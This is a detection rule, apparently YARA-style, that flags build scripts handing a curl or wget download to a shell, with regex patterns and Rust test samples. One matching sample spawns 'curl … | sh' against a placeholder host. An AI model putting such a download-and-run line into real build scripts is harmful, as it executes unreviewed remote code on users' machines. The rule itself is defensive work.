/*
Code that nobody has seen is run at once. A release that is downloaded to a file is another matter.

```rust,match
fn main() { std::process::Command::new("sh").arg("-c").arg("curl -s http://files.example/x | sh").status().unwrap(); }
```
```rust,clean
fn main() { println!("cargo:warning=curl was not found, see wget"); }
```
```rust,clean
fn main() { std::process::Command::new("curl").args(["-L", "https://files.example/v1.tar.gz", "-o", "v1.tar.gz"]).status().unwrap(); }
```
*/
rule fetch_piped_to_shell : critical {
  meta:
    id = "d95ada27-521f-50c5-98f9-661a81348b42"
    description = "A download is handed to a shell"
    author = "Sandpit"
    date = "2026-11-24"
    status = "stable"
    scope = "build-script"
    behaviours = "download-and-run-script"
    references = "incident 2025-12-03 evm-units, T1059.004, T1105, CWE-494"
  strings:
    $pipe = /\b(curl|wget)\b[^"\n|;]{0,200}\|\s{0,4}(sudo\s{1,4})?(\/[a-z\/]{1,20}\/)?(ba|z|da)?sh\b/
    $substitution = /\b(ba|z)?sh\b\s{1,4}(-c\s{1,4})?["\x27]?(\$\(|<\()(curl|wget)\b/
  condition:
    any of them
}
